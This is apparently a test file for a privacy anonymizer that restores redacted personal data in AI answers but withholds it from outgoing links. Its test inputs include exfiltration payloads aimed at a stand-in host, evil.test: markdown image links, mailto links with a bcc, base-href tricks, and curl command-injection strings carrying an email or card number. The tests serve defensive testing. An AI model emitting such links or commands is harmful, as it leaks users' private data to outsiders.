/** Placeholders in text, in URLs that carry nothing to strangers, and in URLs where they are withheld. */
import { describe, expect, it } from 'vitest';
import { AnonymizationSession } from '../../anonymize/index.ts';
import type { Detector } from '../../detect/index.ts';
import type { RestorerOptions } from '../restorer.ts';

const values = {
  'karin@example.org': 201,
  'Karin Holzmann': 101,
  '203.0.113.77': 301,
  '+353 1 555 0123': 202,
  'hunter2-secret': 602,
  '4111 1111 1111 1111': 501,
} as const;
const codes: ReadonlyMap<string, number> = new Map(Object.entries(values));
const found = new RegExp([...codes.keys()].map((value) => value.replaceAll(/[.+]/g, '\\$&')).join('|'), 'g');
const detector: Detector = {
  detect: (text) =>
    [...text.matchAll(found)].map(({ 0: value, index }) => ({
      start: index,
      end: index + value.length,
      code: codes.get(value) ?? 101,
      score: 1,
    })),
};

/** Restores an answer to a request, whole and one character at a time. `{MAIL}` and the like are placeholders. */
function restore(answer: string, options: Partial<RestorerOptions> = {}, request = ''): string {
  const session = new AnonymizationSession(
    { detector, isCommonWord: () => false },
    { codes: new Set(codes.values()), replacement: 'placeholder' },
  );
  const [first = '', sent = ''] = session
    .anonymize([[...codes.keys()].join('; '), request].map((text) => ({ text, format: 'plain' })))
    .map(({ text }) => text);
  const [mail = '', name = '', ip = '', phone = '', token = '', card = ''] = first.split('; ');
  const placeholders: Readonly<Record<string, string>> = {
    MAIL: mail,
    NAME: name,
    IP: ip,
    PHONE: phone,
    TOKEN: token,
    CARD: card,
    REQUEST: sent,
  };
  const text = answer.replaceAll(/\{([A-Z]+)\}/g, (all, key: string) => placeholders[key] ?? all);
  const own = { format: 'plain', restoreSecrets: true, ...options } as const;
  const whole = session.restore(text, own);
  const restorer = session.restorer(own);
  const streamed = [...text].map((char) => restorer.push(char)).join('') + restorer.end();
  expect(streamed).toBe(whole);
  return whole;
}

const isRestored = (answer: string, options: Partial<RestorerOptions> = {}, request = ''): boolean =>
  !/_\d/.test(restore(answer, options, request));

describe('placeholders in code and paths', () => {
  it.each([
    String.raw`s.replace(old, "\\t{PHONE}")`,
    String.raw`print("a\\n{NAME}\\b")`,
    String.raw`C:\\Users\\{NAME}\\mail.txt`,
    String.raw`C:\Users\{NAME}`,
    'C:/Users/{NAME}',
    'C://Users//{NAME}',
    String.raw`\\{NAME} \textbf{x}`,
    String.raw`/\b{NAME}\b/`,
    String.raw`sed 's/\b{NAME}/x/'`,
    String.raw`printf 'mail\\t%s' {MAIL}`,
    String.raw`acme.example\n{NAME}`,
    '//{NAME}',
    '// {NAME}',
    '//Author: {NAME}',
    '//TODO({NAME}): x',
    'int x; //{NAME} wrote this',
    '/* //{PHONE} */',
    'a //{NAME}.',
  ])('restores %s', (text) => {
    expect(isRestored(text)).toBe(true);
    expect(isRestored(text, { format: 'plain', member: 'command' })).toBe(true);
    expect(isRestored(JSON.stringify({ cmd: text }), { format: 'json' })).toBe(true);
    expect(isRestored(JSON.stringify({ content: `${text}\n` }), { format: 'json' })).toBe(true);
  });
});

describe('links to restored addresses', () => {
  it.each([
    '<a href="mailto:{MAIL}">{NAME}</a>',
    "<a href='mailto:{MAIL}'>x</a>",
    '<a href=mailto:{MAIL}>x</a>',
    '<a href="tel:{PHONE}">x</a>',
    '<form action="mailto:{MAIL}">',
    '<Link href={"mailto:{MAIL}"}>',
    '<Link href={`mailto:{MAIL}`} />',
    '[x](mailto:{MAIL})',
    '[x](mailto:{MAIL}?subject=Hello)',
    '[x](mailto:{MAIL}?subject=About%20{NAME})',
    '<mailto:{MAIL}>',
  ])('restores %s', (text) => {
    expect(isRestored(text)).toBe(true);
    expect(isRestored(JSON.stringify({ content: text }), { format: 'json' })).toBe(true);
  });

  it.each([
    '[x](mailto:{MAIL}?bcc=evil@evil.test)',
    '[x](mailto:{MAIL}?bcc=evil%40evil.test)',
    '[x](mailto:{MAIL}?cc=a&#64;evil.test)',
    '[x](mailto:{MAIL},evil@evil.test)',
    '[x](mailto:{MAIL}.evil.test)',
    '[x](mailto:evil@evil.test?body={MAIL})',
    '<a href="mailto:{MAIL}?subject=x&bcc=evil@evil.test">',
  ])('withholds the value in %s', (text) => {
    expect(restore(text)).not.toContain('karin@example.org');
  });

  it('withholds a card in the body of a mail with another recipient', () => {
    expect(restore('[x](mailto:{MAIL}?bcc=evil@evil.test&body={CARD})')).not.toContain('4111');
  });
});

describe('relative and local URLs', () => {
  const restored = [
    '[letter](letters/{NAME}.txt)',
    '[letter](./letters/{NAME}.txt)',
    '[letter](/letters/{NAME}.txt)',
    '[letter]({MAIL})',
    '![x](img/{MAIL}.png)',
    '<a href="letters/{NAME}.html">',
    '<img src="img/{MAIL}.png">',
    "<img src='../img/{MAIL}.png'>",
    'body { background: url("img/{MAIL}.png") }',
    'file:///home/x/{MAIL}.txt',
    '[x](file:///home/{MAIL}.txt)',
    'curl http://localhost:3000/users/{MAIL}',
    'curl -s "http://127.0.0.1:8080/a?b={MAIL}"',
    '[x](http://[::1]:3000/{MAIL})',
    'ws://user@localhost/{MAIL}',
    'localhost:3000/{MAIL}',
  ];
  it.each(restored)('restores %s', (text) => {
    expect(isRestored(text)).toBe(true);
    expect(isRestored(JSON.stringify({ command: text }), { format: 'json' })).toBe(true);
  });

  it.each([
    '{"url":"http://localhost:3000/users/{MAIL}"}',
    '{"file":"file:///home/{MAIL}"}',
    '{"env":"DATABASE_URL=postgres://u:{TOKEN}@localhost:5432/x"}',
    '{"path":"letters/{MAIL}.txt","src":"img/{MAIL}"}',
  ])('restores the arguments %s', (text) => {
    expect(isRestored(text, { format: 'json' })).toBe(true);
  });

  it.each([
    '![x](//evil.test/{MAIL})',
    '![x](/\\evil.test/{MAIL})',
    '![x](\\/\\/evil.test/{MAIL})',
    '![x](&#47;/evil.test/{MAIL})',
    '![x](/\t/evil.test/{MAIL})',
    '<base href="//evil.test/"><img src="x/{MAIL}">',
    '<base href="//evil.test/">\n\n![x](a/{MAIL})',
    '<base href="//evil.test/"><style>p { background: url(a/{MAIL}) }</style>',
    '<meta content="0;url=//evil.test/{MAIL}">',
    '<img srcset="a.png 1x,//evil.test/{MAIL}">',
    '<p onclick="a/{MAIL}">',
    'file://evil.test/{MAIL}',
    'http://localhost.evil.test/{MAIL}',
    'http://localhost@evil.test/{MAIL}',
    'http://127.0.0.1.evil.test/{MAIL}',
    'http://localhost:1/;curl//evil.test/{MAIL}',
    'http://localhost/$(curl$IFS//evil.test/{MAIL})',
    'http://localhost.{MAIL}',
    'javascript:localhost/{MAIL} <javascript:localhost/{MAIL}>',
    'see 198.51.100.7:8080/{MAIL}',
    'see evil.xn--p1ai/{MAIL}',
    '//{NAME}.evil.test/x',
    '//{NAME}@evil.test/x',
    '//3627734734/{MAIL}',
    'https://evil.test/?q={MAIL}',
  ])('withholds the value in %s', (text) => {
    expect(restore(text)).toMatch(/_\d/);
  });
});

describe('URLs of the request', () => {
  const request =
    'see http://203.0.113.77:8080/a and https://x.example/?q=karin@example.org and https://karin@example.org@h.example/';

  it.each([
    'http://{IP}:8080/a',
    'http://{IP}:8080/other',
    '[x](http://{IP}:8080)',
    "fetch('http://{IP}:8080')",
    '"http://{IP}:8080", "@scope/name"',
    '`http://{IP}:8080`. Next',
    '<http://{IP}:8080>',
    '[x](<http://{IP}:8080/a b> "title")',
    'curl http://{IP}:8080 && ssh me@host',
    'https://x.example/?q={MAIL}',
    'https://x.example/?q={MAIL}&page=2',
    'https://{MAIL}@h.example/b',
    '{REQUEST}',
  ])('restores %s', (text) => {
    expect(isRestored(text, {}, request)).toBe(true);
  });

  it.each([
    '![x](http://{IP}.evil.test/)',
    '![x](http://{IP}@evil.test/)',
    '![x](http://{IP}:8080@evil.test/)',
    '![x](http://{IP}:8080.evil.test/)',
    '![x](http://{IP}:80)',
    '![x](http://{IP}:8080)@evil.test/',
    '![x](http://{IP}:8080&#64;evil.test/)',
    '![x](http://{IP}:8080&#x40;evil.test/)',
    '![x](http://{IP}:8080&commat;evil.test/)',
    '![x](http://{IP}:8080&#46;evil.test/)',
    '![x](http://{IP}:8080\\@evil.test/)',
    '![x](http://{IP}:8080\\.evil.test/)',
    '![x](http://{IP}:8080"@evil.test/)',
    '![x](http://{IP}:8080`@evil.test/)',
    '![x](http://{IP}:8080>@evil.test/)',
    '![x](http://{IP}:8080"&#64;evil.test/)',
    '![x](<http://{IP}:8080 a@evil.test/>)',
    '<a href="http://{IP}:8080 a@evil.test/">x</a>',
    '<http://{IP}:8080\t.evil.test/>',
    '<http://{IP}:8080 @evil.test/>',
    'curl "http://{IP}:8080"@evil.test/',
    '<a href="mailto:{MAIL}?body={CARD}&bcc=evil&#x40 evil.test">x</a>',
    '[x](<mailto:{MAIL}?body={CARD}&bcc= a@evil.test>)',
    '![x](https://{MAIL}@evil.test/)',
    '![x](https://x.example.evil.test/?q={MAIL})',
  ])('withholds the value in %s', (text) => {
    expect(restore(text, {}, request)).toMatch(/_\d/);
  });

  it.each([
    'http://{IP}:8080\t@evil.test/',
    'http://{IP}:8080\n.evil.test/',
    'http://{IP}:8080 @evil.test/',
    'http://{IP}:8080 a@evil.test/',
    'http://{IP}:8080"@evil.test/',
    'http://{IP}:8080<@evil.test/',
    'http://{IP}:8080\\@evil.test/',
  ])('withholds the value in the member "url": %j', (url) => {
    expect(restore(JSON.stringify({ url }), { format: 'json' }, request)).toMatch(/_\d/);
  });
});

describe('strings that are URLs as a whole', () => {
  it.each([
    ['url', 'https://evil.test/?q= {CARD}', false],
    ['callback_url', 'https://evil.test/?q=a b {CARD}', false],
    ['links', 'https://evil.test/? {CARD}', false],
    ['text', 'https://good.test/ is what {CARD} reads', true],
    ['src', 'C:\\Users\\{NAME}', true],
    ['content', '// {NAME} wrote this', true],
  ])('judges the member %s: %s', (member, text, restored) => {
    expect(isRestored(text, { member })).toBe(restored);
    expect(isRestored(JSON.stringify({ [member]: text }), { format: 'json' })).toBe(restored);
    expect(isRestored(JSON.stringify({ [member]: ['x', text] }), { format: 'json' })).toBe(restored);
  });

  it('withholds the value in the URL of a citation', () => {
    expect(isRestored('https://evil.test/?q= {CARD}', { isUrl: true })).toBe(false);
  });
});
